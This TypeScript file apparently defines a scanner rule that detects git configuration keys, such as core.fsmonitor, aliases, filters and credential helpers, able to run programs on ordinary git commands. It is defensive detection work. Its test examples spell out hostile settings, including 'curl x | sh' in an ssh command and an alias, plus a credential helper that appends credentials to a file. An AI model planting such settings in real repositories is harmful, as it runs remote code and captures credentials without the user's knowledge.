import type { InventoryFact } from '../contract/inventory-fact.ts';
import type { Severity } from '../contract/finding.ts';
import type { InventoryRule } from './rule.ts';

interface Danger {
  readonly what: string;
  readonly severity: Severity;
}

/** Keys whose value git hands to a shell; git-config(1), Git 2.52, 2026-11. The middle part may be any name. */
const COMMANDS: readonly (readonly [RegExp, string])[] = [
  [/^core\.fsmonitor$/, 'with every status of the repository'],
  [
    /^core\.(?:sshcommand|gitproxy|askpass|editor|pager|alternaterefscommand)$/,
    'with ordinary commands of git',
  ],
  [/^sequence\.editor$/, 'with every rebase'],
  [
    /^(?:pager|interactive|difftool|mergetool|guitool|browser|man|web)\..{1,200}(?:\.cmd|\.path)?$/,
    'with a command of git',
  ],
  [
    /^(?:diff\.external|diff\..{1,200}\.(?:command|textconv)|merge\..{1,200}\.driver)$/,
    'with every diff or merge',
  ],
  [/^filter\..{1,200}\.(?:clean|smudge|process)$/, 'with every checkout and commit'],
  [/^credential(?:\..{1,300})?\.helper$/, 'with every fetch'],
  [/^alias\..{1,200}$/, 'when somebody types the alias'],
  [
    /^(?:gpg(?:\..{1,50})?\.program|gpg\.ssh\.defaultkeycommand|trailer\..{1,100}\.c(?:ommand|md))$/,
    'with every signed commit',
  ],
  [
    /^(?:remote\..{1,200}\.(?:uploadpack|receivepack|vcs)|uploadpack\.packobjectshook|sendemail\..{1,60}cmd|imap\.tunnel)$/,
    'with every fetch',
  ],
  [/^submodule\..{1,200}\.update$/, 'with an update of submodules'],
];
/** Values that well-known tools write, and a program's plain name for what only a person starts. */
const USUAL: readonly (readonly [RegExp, RegExp])[] = [
  [/^core\.fsmonitor$/, /^(?:true|false|yes|no|on|off|[01]|)$/i],
  [
    /^filter\.lfs\.(?:clean|smudge|process)$/,
    /^git[- ]lfs (?:clean|smudge|filter-process)(?: --skip)?(?: -- %f)?$/,
  ],
  [
    /^filter\.git-crypt[\w-]{0,40}\.(?:clean|smudge)$/,
    /^"?git-crypt"? (?:clean|smudge)(?: --key-name=[\w-]{1,40})?$/,
  ],
  [/^diff\.git-crypt[\w-]{0,40}\.textconv$/, /^"?git-crypt"? diff$/],
  [/^filter\.nbstripout\.(?:clean|smudge)$/, /^(?:"[^"]{1,200}" -m nbstripout|nbstripout|cat)$/],
  [/^diff\.ipynb\.textconv$/, /^(?:"[^"]{1,200}" -m nbstripout -t|nbstripout -t|jupyter nbconvert .{1,80})$/],
  [
    /^credential(?:\..{1,300})?\.helper$/,
    /^(?:|store|cache(?: --timeout[= ]\d{1,9})?|osxkeychain|wincred|libsecret|manager(?:-core)?|gcloud\.sh|!(?:\/(?:usr|opt)\/[\w./-]{0,80}\/)?(?:gh|glab) auth git-credential|!aws codecommit credential-helper \$@)$/,
  ],
  [
    /^(?:core\.(?:editor|pager)|sequence\.editor|pager\..{1,200}|interactive\.diff[fF]ilter)$/,
    /^"?(?:code|cursor|windsurf|vim?|nvim|nano|emacs|subl|micro|hx|less|more|cat|delta|diff-so-fancy|bat|true|false)"?(?: -{1,2}[\w=+-]{1,20}){0,4}$/,
  ],
  [/^diff\.external$/, /^difft(?: --[\w-]{1,30}(?:[= ]\w{1,20})?)?$/],
  [
    /^(?:difftool|mergetool)\..{1,200}\.(?:cmd|path)$/,
    /^(?:code|cursor|meld|kdiff3|vimdiff|nvim|opendiff|p4merge|bc\w{0,5})\b[^;&|`]{0,120}$/,
  ],
  [
    /^gpg(?:\..{1,50})?\.program$/,
    /^(?:\/(?:usr|opt|Applications)\/[\w .\/-]{1,120}\/)?(?:gpg2?|gpgsm|ssh-keygen|op-ssh-sign|gitsign|smimesign)$/,
  ],
  [
    /^core\.sshcommand$/i,
    /^ssh(?: -i [\w~./@-]{1,200}| -o (?:IdentitiesOnly|IdentityAgent|AddKeysToAgent)[= ][\w~./-]{1,120}| -F [\w~./-]{1,200}| -[46]){0,6}$/,
  ],
  [/^submodule\..{1,200}\.update$/, /^(?:checkout|rebase|merge|none)$/],
  [/^(?:browser|man|web)\..{1,200}$/, /^[\w.\/-]{1,100}$/],
  [/^remote\..{1,200}\.(?:uploadpack|receivepack)$/, /^git-(?:upload|receive)-pack$/],
];
/** Folders for hooks that tools for whole teams make. */
const HOOKS = /^(?:\.husky(?:\/_)?|\.githooks|\.git\/hooks|\.lefthook|githooks|\.beads\/hooks|)\/?$/;

export const repoGitConfigExec: InventoryRule = {
  on: 'inventory',
  id: 'repo.git-config-exec',
  code: 'P-23',
  title: 'Git settings of a project start a program of their own',
  severity: 'critical',
  confidence: 'medium',
  why: 'Git does what these settings say with ordinary commands such as status and diff. Agents and editors run those all the time, so the program starts without anybody asking for it.',
  triage:
    'Was the folder cloned, or unpacked from an archive together with its .git folder? Only then did a stranger write this.',
  advice: 'Do not run git or an agent in this folder before the line is removed; clone the repository again.',
  falsePositives: ['A setting of your own for one repository.'],
  references: ['https://attack.mitre.org/techniques/T1546/', 'https://git-scm.com/docs/git-config'],
  taxonomies: { attack: ['T1574', 'T1546'], atlas: ['AML.T0112.000'], owasp: ['ASI05'] },
  bundles: ['MAL', 'CHG'],
  match(fact) {
    if (fact.kind === 'repository-trap')
      return [
        {
          subject: fact.path,
          detail:
            fact.trap === 'nested-repository'
              ? `${fact.path} is a repository of git inside the files of ${fact.project}: git follows its settings there.`
              : `${fact.path} has the name of a program that tools on Windows start from the folder they are in.`,
          severity: fact.trap === 'nested-repository' ? 'high' : 'critical',
        },
      ];
    if (fact.kind !== 'git-setting') return [];
    const danger = dangerOf(fact.key, fact.value);
    return danger === undefined
      ? []
      : [
          {
            subject: `${fact.path}#${fact.key}`,
            detail: `${fact.path} sets ${fact.key}, which ${danger.what}.`,
            severity: danger.severity,
            excerpt: `${fact.key} = ${fact.value}`,
          },
        ];
  },
  examples: {
    hit: [
      { name: 'file system monitor (critical)', fact: setting('core.fsmonitor', './.tools/watch.sh') },
      { name: 'program behind ssh (critical)', fact: setting('core.sshcommand', 'sh -c "curl x | sh" ssh') },
      { name: 'filter (critical)', fact: setting('filter.text.smudge', 'node .x.js') },
      { name: 'hooks of the work tree (high)', fact: setting('core.hookspath', 'tools/.h') },
      { name: 'alias that is a shell line (high)', fact: setting('alias.st', '!f() { curl x | sh; }; f') },
      { name: 'second configuration (high)', fact: setting('include.path', '../config/git.inc') },
      { name: 'addresses that are commands (critical)', fact: setting('protocol.ext.allow', 'always') },
      { name: 'helper (critical)', fact: setting('credential.helper', '!sh -c "cat >> /tmp/x"') },
      { name: 'repository in the files (high)', fact: trap('nested-repository', 'fixtures/data') },
      { name: 'git beside the sources (critical)', fact: trap('program-name', 'git.exe') },
    ],
    miss: [
      { name: 'built-in monitor', guards: 'fsmonitor switched on', fact: setting('core.fsmonitor', 'true') },
      {
        name: 'Git LFS',
        guards: 'the most common filter',
        fact: setting('filter.lfs.process', 'git-lfs filter-process'),
      },
      { name: 'husky', guards: 'hooks of a team', fact: setting('core.hookspath', '.husky/_') },
      { name: 'alias', guards: 'short names', fact: setting('alias.co', 'checkout') },
      {
        name: 'login of GitHub',
        guards: 'helpers everybody has',
        fact: setting('credential.https://github.com.helper', '!gh auth git-credential'),
      },
      {
        name: 'own key',
        guards: 'one key for each repository',
        fact: setting('core.sshcommand', 'ssh -i ~/.ssh/work -o IdentitiesOnly=yes'),
      },
      { name: 'editor', guards: 'a choice of the user', fact: setting('core.editor', 'code --wait') },
      { name: 'worktree settings', guards: 'ordinary keys', fact: setting('core.worktree', '/home/dev/app') },
    ],
  },
};

function dangerOf(key: string, value: string): Danger | undefined {
  if (key === 'core.hookspath')
    return HOOKS.test(value)
      ? undefined
      : { what: 'makes git run the hooks of another folder', severity: 'high' };
  if (/^include(?:if\..{1,300})?\.path$/.test(key))
    return /^~\//.test(value)
      ? undefined
      : { what: 'takes in more settings from another file', severity: 'high' };
  if (/^protocol\.(?:ext|fd)\.allow$/.test(key) || key === 'protocol.allow')
    return /^(?:always|user)$/i.test(value)
      ? { what: 'lets the address of a repository be a command', severity: 'critical' }
      : undefined;
  if (/^alias\./.test(key) && !value.startsWith('!')) return undefined;
  const runs = COMMANDS.find(([pattern]) => pattern.test(key));
  if (runs === undefined || USUAL.some(([of, usual]) => of.test(key) && usual.test(value))) return undefined;
  const people =
    /^(?:alias|difftool|mergetool|guitool|pager|interactive|browser|man|web)\.|^(?:core\.editor|core\.pager|sequence\.editor|gpg\.)/;
  return { what: `runs a program of its own ${runs[1]}`, severity: people.test(key) ? 'high' : 'critical' };
}

function setting(key: string, value: string): InventoryFact {
  return {
    kind: 'git-setting',
    project: '/home/dev/app',
    path: '/home/dev/app/.git/config',
    line: 7,
    key,
    value,
  };
}

function trap(kind: 'nested-repository' | 'program-name', name: string): InventoryFact {
  return { kind: 'repository-trap', project: '/home/dev/app', path: `/home/dev/app/${name}`, trap: kind };
}
